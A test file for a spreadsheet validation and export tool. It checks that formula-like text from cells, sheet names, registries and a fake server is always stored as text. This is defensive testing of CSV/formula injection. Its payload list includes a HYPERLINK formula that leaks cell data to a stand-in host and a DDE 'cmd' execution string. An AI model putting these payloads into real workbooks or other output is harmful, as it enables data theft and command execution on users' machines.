/**
 * Every workbook the project writes stores formula-like text (=, +, -, @) as text, never as a
 * formula: the CLI's annotate, template and export (against a loopback fake of the Worker that
 * answers hostile records), and the shared/xlsx builders directly. Checked twice: excelts' cell
 * types, and the raw worksheet XML (no <f> element holding hostile text).
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createServer, type Server } from "node:http";
import { readFileSync, writeFileSync } from "node:fs";
import { ValueType, Workbook } from "@cj-tech-master/excelts";
import { run } from "../../cli/run";
import { validateWorkbook } from "../../shared/engine";
import { kindById, KINDS } from "../../shared/kinds";
import { DEFAULT_REGISTRY, type Registry } from "../../shared/registry";
import { annotateXlsx } from "../../shared/xlsx/annotate";
import { buildConsolidated } from "../../shared/xlsx/consolidated";
import { workbookToInput } from "../../shared/xlsx/convert";
import { buildTemplate } from "../../shared/xlsx/template";
import { entryText, listZipEntries } from "../../shared/xlsx/zip";
import { HEADER } from "./files";
import { AS_OF, tempDir } from "./helpers";

const tmp = tempDir();
afterAll(() => tmp.cleanup());

/** Formula injection payloads, as a clerk's cell text, a branch name or a sheet name could carry them. */
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?"&A1,"点此")',
  "=cmd|' /C calc'!A0",
  "+1+1",
  "-2+3",
  "@SUM(A1:A9)",
  "=1+1",
];
const FORMULA_LIKE = /^[=+\-@]/;

interface Offender {
  sheet: string;
  cell: string;
  type: string;
  text: string;
}

/** Cells whose text is formula-like but that are not plain text cells marked "@". */
function offenders(wb: Workbook): Offender[] {
  const out: Offender[] = [];
  for (const ws of wb.worksheets) {
    ws.eachRow({ includeEmpty: false }, (row) =>
      row.eachCell({ includeEmpty: false }, (cell) => {
        const formula = (cell.value as { formula?: string } | null)?.formula;
        const text = typeof cell.value === "string" ? cell.value : (formula ?? "");
        const isOurTotal = formula !== undefined && /^SUM\([A-Z]+\d+:[A-Z]+\d+\)$/.test(formula);
        if (cell.type === ValueType.Formula && !isOurTotal) {
          out.push({ sheet: ws.name, cell: cell.address, type: "formula", text });
        } else if (typeof cell.value === "string" && FORMULA_LIKE.test(cell.value) && cell.numFmt !== "@") {
          out.push({ sheet: ws.name, cell: cell.address, type: `text without "@" (${cell.numFmt})`, text });
        }
      }),
    );
  }
  return out;
}

/** The formulas (<f> elements) in the file's worksheet parts that hold any payload text. */
async function xmlFormulas(bytes: Uint8Array): Promise<string[]> {
  const entries = listZipEntries(bytes);
  if (typeof entries === "string") throw new Error(entries);
  const found: string[] = [];
  for (const e of entries.filter((x) => x.name.startsWith("xl/worksheets/sheet"))) {
    let xml = "";
    for await (const chunk of entryText(bytes, e)) xml += chunk;
    for (const m of xml.matchAll(/<f[^>]*>([^<]*)<\/f>/g))
      if (!/^SUM\([A-Z]+\d+:[A-Z]+\d+\)$/.test(m[1])) found.push(m[1]);
  }
  return found;
}

async function reopen(bytes: Uint8Array): Promise<Workbook> {
  const wb = new Workbook();
  await wb.xlsx.load(bytes);
  return wb;
}

async function cli(...argv: string[]) {
  let stdout = "";
  let stderr = "";
  const code = await run(argv, { out: (t) => (stdout += t), err: (l) => (stderr += l + "\n") });
  return { code, stdout, stderr };
}

/** A registry whose names are payloads (an admin's typo, or a hostile admin). */
const HOSTILE_REGISTRY: Registry = {
  ...DEFAULT_REGISTRY,
  township: { name: "=老牛湾镇", county: "偏关县", code: "140932105" },
  branches: [
    ...DEFAULT_REGISTRY.branches,
    { name: PAYLOADS[0].slice(0, 100), aliases: ["-乾坤"] },
    { name: "@麦虎村党支部" },
  ],
  staff: [{ name: "=张三" }, { name: "+李四" }],
};

describe("the checker", () => {
  it("catches a formula and formula-like text not marked as text", async () => {
    const wb = new Workbook();
    const ws = wb.addWorksheet("S");
    ws.getCell("A1").value = { formula: 'HYPERLINK("x")' };
    ws.getCell("A2").value = "=1+1";
    const bytes = new Uint8Array(await wb.xlsx.writeBuffer());
    expect(offenders(await reopen(bytes)).map((o) => [o.cell, o.type.split(" ")[0]])).toEqual([
      ["A1", "formula"],
      ["A2", "text"],
    ]);
    expect(await xmlFormulas(bytes)).toEqual(["HYPERLINK(&quot;x&quot;)"]);
  });
});

describe("the CLI's annotate", () => {
  it("writes formula-like cell text, sheet names and findings as text", async () => {
    const wb = new Workbook();
    const ws = wb.addWorksheet("=民情问题台账");
    ws.getRow(1).values = HEADER;
    PAYLOADS.forEach((p, i) => {
      ws.getRow(2 + i).values = [p, "2025-09-01", p, p, p, p, null, 1, 2];
    });
    const file = tmp.path("hostile.xlsx");
    writeFileSync(file, new Uint8Array(await wb.xlsx.writeBuffer()));
    const out = tmp.path("annotated.xlsx");
    const r = await cli("annotate", file, "--out", out, "--as-of", AS_OF);
    expect(r.stderr).toBe("");
    expect(r.code).toBe(0);
    const bytes = new Uint8Array(readFileSync(out));
    const back = await reopen(bytes);
    expect(back.worksheets.map((s) => s.name)).toEqual(["=民情问题台账", "校验结果"]);
    // The clerk's own payload cells were text in the source and remain text.
    expect(back.getWorksheet("=民情问题台账")!.getCell("A2").type).toBe(ValueType.String);
    expect(offenders(back).filter((o) => o.sheet === "校验结果")).toEqual([]);
    expect(back.getWorksheet("校验结果")!.getCell("A3").value).toBe("=民情问题台账");
    expect(await xmlFormulas(bytes)).toEqual([]);
  });

  it("shared/xlsx annotateXlsx marks every formula-like text it writes as text", async () => {
    const wb = new Workbook();
    const ws = wb.addWorksheet("+台账");
    ws.getRow(1).values = HEADER;
    ws.getRow(2).values = ["=1+1", "2025-09-01", "@老牛湾", "道路", "-问题", "待办", null, 1, 2];
    const results = validateWorkbook(workbookToInput(wb), { asOf: AS_OF, registry: DEFAULT_REGISTRY });
    const { bytes } = await annotateXlsx(new Uint8Array(await wb.xlsx.writeBuffer()), results, {
      caption: "=caption",
    });
    const back = await reopen(bytes);
    expect(back.getWorksheet("校验结果")!.getCell("A1").type).toBe(ValueType.String);
    expect(offenders(back).filter((o) => o.sheet === "校验结果")).toEqual([]);
    expect(await xmlFormulas(bytes)).toEqual([]);
  });
});

describe("templates", () => {
  it.each(KINDS.map((k) => [k.id]))(
    "the %s template writes a hostile registry's names as text",
    async (id) => {
      const kind = kindById(id)!;
      const registryFile = tmp.path(`registry-${id}.json`);
      writeFileSync(registryFile, JSON.stringify(HOSTILE_REGISTRY));
      const out = tmp.path(`template-${id}.xlsx`);
      const r = await cli("template", id, "--out", out, "--registry", registryFile, "--year", "2025");
      expect([r.code, r.stderr]).toEqual([0, ""]);
      const bytes = new Uint8Array(readFileSync(out));
      const back = await reopen(bytes);
      expect(back.worksheets[0].getCell("A1").value).toBe(`=老牛湾镇${kind.title}（2025年）`);
      expect(offenders(back)).toEqual([]);
      expect(await xmlFormulas(bytes)).toEqual([]);
      // The same through the builder directly.
      const direct = new Uint8Array(
        await buildTemplate(kind, { registry: HOSTILE_REGISTRY, year: 2025 }).xlsx.writeBuffer(),
      );
      expect(offenders(await reopen(direct))).toEqual([]);
    },
  );
});

describe("the consolidated workbook", () => {
  const problems = kindById("problems")!;
  const hostileRows = PAYLOADS.map((p) => ({
    branch: p,
    values: {
      编号: p,
      收集日期: "2025-09-01",
      村: p,
      问题类别: p,
      问题描述: p,
      办理状态: p,
      责任人: p,
      联系电话: p,
    },
  }));

  it("shared/xlsx buildConsolidated writes hostile rows, branch names and figures as text", async () => {
    const wb = buildConsolidated({
      township: "=老牛湾镇",
      year: "2025",
      kinds: [
        {
          kind: problems,
          rows: hostileRows,
          byBranch: Object.fromEntries(PAYLOADS.map((p, i) => [p, { total: i, resolved: 0 }])),
          // A string where a figure belongs: what a hostile or broken source might still send.
          total: { total: 15, resolved: "=1+1" as unknown as number },
        },
      ],
    });
    const bytes = new Uint8Array(await wb.xlsx.writeBuffer());
    const back = await reopen(bytes);
    expect(offenders(back)).toEqual([]);
    expect(await xmlFormulas(bytes)).toEqual([]);
    const sheet = back.getWorksheet(problems.title)!;
    expect(sheet.getCell("A3").value).toBe(PAYLOADS[0]);
    expect(sheet.getCell("A3").type).toBe(ValueType.String);
  });

  describe("the CLI's export, against a loopback fake of the Worker answering hostile data", () => {
    let server: Server;
    let url = "";
    beforeAll(async () => {
      server = createServer((req, res) => {
        const path = new URL(req.url ?? "/", "http://x").pathname;
        res.setHeader("Content-Type", "application/json");
        if (req.headers.authorization !== "Bearer ll_fake-token-for-export") {
          res.statusCode = 401;
          res.end(JSON.stringify({ error: { code: "unauthorized", message: "无效" } }));
          return;
        }
        if (path === "/api/registry") {
          res.end(JSON.stringify({ version: 1, updatedAt: null, registry: HOSTILE_REGISTRY }));
        } else if (path === "/api/summary") {
          res.end(
            JSON.stringify({
              year: "2025",
              asOf: AS_OF,
              kinds: [
                {
                  kind: "problems",
                  title: problems.title,
                  byBranch: Object.fromEntries(PAYLOADS.map((p, i) => [p, { total: i }])),
                  total: { total: 15 },
                  rows: PAYLOADS.length,
                },
              ],
            }),
          );
        } else if (path.startsWith("/api/records/")) {
          const kind = kindById(path.slice("/api/records/".length))!;
          const rows =
            kind.id === "problems"
              ? hostileRows.map((r, i) => ({
                  submissionId: `s${i}`,
                  scope: r.branch,
                  period: "2025",
                  row: i + 3,
                  values: { 提交单位: r.branch, ...r.values },
                }))
              : [];
          res.end(JSON.stringify({ kind: kind.id, title: kind.title, year: "2025", columns: [], rows }));
        } else {
          res.statusCode = 404;
          res.end(JSON.stringify({ error: { code: "not-found", message: "无" } }));
        }
      });
      await new Promise<void>((ok) => server.listen(0, "127.0.0.1", () => ok()));
      const address = server.address();
      url = `http://127.0.0.1:${typeof address === "object" && address ? address.port : 0}`;
    });
    afterAll(() => new Promise<void>((ok) => server.close(() => ok())));

    it("writes every hostile value as text", async () => {
      const out = tmp.path("export.xlsx");
      const r = await cli(
        "export",
        "--server",
        url,
        "--token",
        "ll_fake-token-for-export",
        "--year",
        "2025",
        "--out",
        out,
      );
      expect([r.code, r.stderr]).toEqual([0, ""]);
      const bytes = new Uint8Array(readFileSync(out));
      const back = await reopen(bytes);
      expect(offenders(back)).toEqual([]);
      expect(await xmlFormulas(bytes)).toEqual([]);
      const sheet = back.getWorksheet(problems.title)!;
      expect(PAYLOADS.map((_, i) => sheet.getCell(`A${3 + i}`).value)).toEqual(PAYLOADS);
    });
  });
});
